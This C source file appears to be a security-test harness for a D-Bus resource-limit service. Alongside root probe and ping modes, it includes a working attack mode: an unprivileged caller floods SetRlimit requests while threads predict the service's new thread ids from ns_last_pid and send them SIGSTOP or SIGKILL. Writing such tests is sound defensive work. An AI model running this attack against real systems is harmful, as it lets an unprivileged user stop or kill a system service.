/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* attack-signal: attack B of the security suite (tests/security/test-security-change.sh),
 * and the root prober that measures what the attack does to everyone else.
 *
 *   attack-signal attack STOP|KILL SECONDS DAEMON_PID [SPINNERS]
 *           Run as an unprivileged user. One bus connection changes the
 *           caller's own CORE soft limit over and over (alternately 0 and 1,
 *           the hard limit kept: never a polkit question, always a real
 *           change the service carries out as the caller). Meanwhile
 *           SPINNERS threads (default 1) read /proc/sys/kernel/ns_last_pid
 *           and send the signal to the ids that come next (last+0 .. last+4):
 *           tgkill(DAEMON_PID, id, SIG) hits a thread of the daemon that runs
 *           with the caller's real uid; kill(id, SIG) hits a process (or a
 *           thread) with the caller's real uid. Ends after SECONDS, or as soon
 *           as the daemon is stopped or gone. Prints one line "ATTACK ..." with
 *           the counts and what happened to the daemon.
 *
 *   attack-signal probe SECONDS
 *           Run as root. Calls PageSize every 20 ms with a 1 s timeout for
 *           SECONDS; prints "PROBE calls=N failed=F worst_ms=W".
 *
 *   attack-signal ping
 *           One org.freedesktop.DBus.Peer.Ping of the service (1 s timeout);
 *           prints "PING ok ms=M" or "PING failed ms=M ERROR". */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <systemd/sd-bus.h>
#include <time.h>
#include <unistd.h>

#include "attack-common.h"
#include "resource1-bus.h"

#define NAME  RESOURCE1_BUS_NAME
#define PATH  RESOURCE1_PATH
#define IFACE RESOURCE1_INTERFACE
#define MAX_SPINNERS 4

static double now_ms(void) {
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double) ts.tv_sec * 1e3 + (double) ts.tv_nsec / 1e6;
}

static sd_bus *bus_open(void) {
        sd_bus *bus = NULL;
        int r = sd_bus_open_system(&bus);
        if (r < 0) {
                fprintf(stderr, "attack-signal: cannot connect to the system bus: %s\n", strerror(-r));
                exit(1);
        }
        /* Every call of this program is bounded: a stopped daemon costs 1 s, not 25. */
        sd_bus_set_method_call_timeout(bus, 1000000);
        return bus;
}

/* ---- attack ---- */

static pid_t daemon_pid;
static int sig;
static atomic_bool stop;
static atomic_ulong tgkill_hits, kill_hits, rounds;
static double t_start;                /* ms */
static atomic_ullong first_hit_us;    /* 0 until a signal was delivered */
static pid_t own_ids[MAX_SPINNERS + 1];
static int n_own_ids;
static pthread_barrier_t start;

static bool own_id(pid_t id) {
        for (int i = 0; i < n_own_ids; i++)
                if (own_ids[i] == id)
                        return true;
        return false;
}

static void *spin(void *p) {
        own_ids[(intptr_t) p] = (pid_t) syscall(SYS_gettid);
        pthread_barrier_wait(&start);

        int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
                perror("attack-signal: /proc/sys/kernel/ns_last_pid");
                return NULL;
        }
        while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
                char buf[16];
                ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
                if (n <= 0)
                        continue;
                buf[n] = '\0';
                pid_t last = (pid_t) atoi(buf);
                /* last+0: the id handed out just now (the daemon's new
                 * thread or child, if it was the last one made); +1..+4: the
                 * ones it is about to make. */
                for (pid_t id = last; id <= last + 4; id++) {
                        if (id <= 1 || own_id(id))
                                continue;
                        bool hit = false;
                        if (syscall(SYS_tgkill, daemon_pid, id, sig) == 0) {
                                atomic_fetch_add_explicit(&tgkill_hits, 1, memory_order_relaxed);
                                hit = true;
                        }
                        if (kill(id, sig) == 0) {
                                atomic_fetch_add_explicit(&kill_hits, 1, memory_order_relaxed);
                                hit = true;
                        }
                        unsigned long long none = 0;
                        if (hit)
                                atomic_compare_exchange_strong(&first_hit_us, &none,
                                                               (unsigned long long) (now_ms() * 1e3));
                }
                atomic_fetch_add_explicit(&rounds, 1, memory_order_relaxed);
        }
        close(fd);
        return NULL;
}

/* The daemon's state letter from /proc/PID/status: 'R', 'S', 'T' (stopped),
 * 't', 'Z', or 0 when it is gone. */
static char daemon_state(void) {
        char path[64], buf[512];
        snprintf(path, sizeof path, "/proc/%d/status", (int) daemon_pid);
        if (read_small(path, buf, sizeof buf) < 0)
                return 0;
        const char *s = strstr(buf, "\nState:");
        if (!s)
                return 0;
        s += strlen("\nState:");
        while (*s == ' ' || *s == '\t')
                s++;
        return *s;
}

static int attack(int argc, char *argv[]) {
        if (argc < 5)
                return 2;
        if (strcmp(argv[2], "STOP") == 0)
                sig = SIGSTOP;
        else if (strcmp(argv[2], "KILL") == 0)
                sig = SIGKILL;
        else
                return 2;
        double seconds = atof(argv[3]);
        daemon_pid = (pid_t) atoi(argv[4]);
        int spinners = argc > 5 ? atoi(argv[5]) : 1;
        if (spinners < 1 || spinners > MAX_SPINNERS || daemon_pid <= 1)
                return 2;

        /* No signal of ours may land on ourselves: our own ids are skipped. */
        own_ids[0] = getpid();
        n_own_ids = spinners + 1;
        pthread_barrier_init(&start, NULL, (unsigned) spinners + 1);
        t_start = now_ms();
        pthread_t threads[MAX_SPINNERS];
        for (int i = 0; i < spinners; i++)
                if (pthread_create(&threads[i], NULL, spin, (void *) (intptr_t) (i + 1)) != 0)
                        return 1;
        pthread_barrier_wait(&start);

        sd_bus *bus = bus_open();
        struct rlimit own;
        getrlimit(RLIMIT_CORE, &own);
        unsigned long calls = 0, ok = 0, errors = 0;
        char first_error[256] = "";
        char what[128] = "the daemon was neither stopped nor killed";
        double t0 = now_ms(), end = t0 + seconds * 1e3;

        while (now_ms() < end) {
                sd_bus_error error = SD_BUS_ERROR_NULL;
                uint64_t soft = own.rlim_max >= 1 && calls % 2 ? 1 : 0;
                int r = sd_bus_call_method(bus, NAME, PATH, IFACE, "SetRlimit", &error, NULL, "stt", "CORE",
                                           soft, (uint64_t) own.rlim_max);
                calls++;
                if (r >= 0)
                        ok++;
                else {
                        errors++;
                        if (!first_error[0])
                                snprintf(first_error, sizeof first_error, "%s: %s",
                                         error.name ?: strerror(-r), error.message ?: "");
                }
                sd_bus_error_free(&error);

                char st = daemon_state();
                if (st == 'T' || st == 't') {
                        snprintf(what, sizeof what, "the daemon was STOPPED after %lu calls, %.0f ms", calls,
                                 now_ms() - t0);
                        break;
                }
                if (st == 0 || st == 'Z' || st == 'X') {
                        snprintf(what, sizeof what, "the daemon was KILLED after %lu calls, %.0f ms", calls,
                                 now_ms() - t0);
                        break;
                }
                if (r < 0 && (r == -ECONNRESET || r == -ENOTCONN || r == -EPIPE)) {
                        /* our own connection went: a new one, and a breath */
                        sd_bus_flush_close_unref(bus);
                        usleep(10000);
                        bus = bus_open();
                }
        }
        atomic_store(&stop, true);
        for (int i = 0; i < spinners; i++)
                pthread_join(threads[i], NULL);

        char first_hit[64] = "no signal was delivered";
        if (first_hit_us > 0)
                snprintf(first_hit, sizeof first_hit, "the first delivered after %.0f ms",
                         (double) first_hit_us / 1e3 - t_start);
        printf("ATTACK SIG%s: %lu calls (%lu ok, %lu errors%s%s), %lu prediction rounds, "
               "%lu tgkill and %lu kill deliveries (%s): %s\n",
               argv[2], calls, ok, errors, first_error[0] ? ", first: " : "", first_error,
               (unsigned long) rounds, (unsigned long) tgkill_hits, (unsigned long) kill_hits, first_hit, what);
        sd_bus_flush_close_unref(bus);
        return 0;
}

/* ---- probe ---- */

static int probe(int argc, char *argv[]) {
        if (argc < 3)
                return 2;
        double end = now_ms() + atof(argv[2]) * 1e3;
        sd_bus *bus = bus_open();
        unsigned long calls = 0, failed = 0;
        double worst = 0;
        char first_error[256] = "";

        while (now_ms() < end) {
                sd_bus_error error = SD_BUS_ERROR_NULL;
                sd_bus_message *reply = NULL;
                double t = now_ms();
                int r = sd_bus_call_method(bus, NAME, PATH, IFACE, "PageSize", &error, &reply, "");
                double ms = now_ms() - t;
                calls++;
                if (r < 0) {
                        failed++;
                        if (!first_error[0])
                                snprintf(first_error, sizeof first_error, " first: %s: %s",
                                         error.name ?: strerror(-r), error.message ?: "");
                        /* a call that failed was not answered in time, whatever it took */
                        if (ms < 1000)
                                ms = 1000;
                }
                if (ms > worst)
                        worst = ms;
                sd_bus_error_free(&error);
                sd_bus_message_unref(reply);
                if (r == -ECONNRESET || r == -ENOTCONN) {
                        sd_bus_flush_close_unref(bus);
                        bus = bus_open();
                }
                usleep(20000);
        }
        printf("PROBE calls=%lu failed=%lu worst_ms=%.0f%s\n", calls, failed, worst, first_error);
        sd_bus_flush_close_unref(bus);
        return 0;
}

static int ping(void) {
        sd_bus *bus = bus_open();
        sd_bus_error error = SD_BUS_ERROR_NULL;
        const char *unique;
        /* The connection's authentication and Hello first: the daemon's
         * answer is what is timed, not the bus's welcome. */
        (void) sd_bus_get_unique_name(bus, &unique);
        double t = now_ms();
        int r = sd_bus_call_method(bus, NAME, PATH, "org.freedesktop.DBus.Peer", "Ping", &error, NULL, "");
        double ms = now_ms() - t;
        if (r >= 0)
                printf("PING ok ms=%.0f\n", ms);
        else
                printf("PING failed ms=%.0f %s: %s\n", ms, error.name ?: strerror(-r), error.message ?: "");
        sd_bus_error_free(&error);
        sd_bus_flush_close_unref(bus);
        return 0;
}

int main(int argc, char *argv[]) {
        int r = 2;
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc >= 2 && strcmp(argv[1], "attack") == 0)
                r = attack(argc, argv);
        else if (argc >= 2 && strcmp(argv[1], "probe") == 0)
                r = probe(argc, argv);
        else if (argc >= 2 && strcmp(argv[1], "ping") == 0)
                r = ping();
        if (r == 2)
                fprintf(stderr, "usage: attack-signal attack STOP|KILL SECONDS DAEMON_PID [SPINNERS] | "
                                "probe SECONDS | ping\n");
        return r;
}
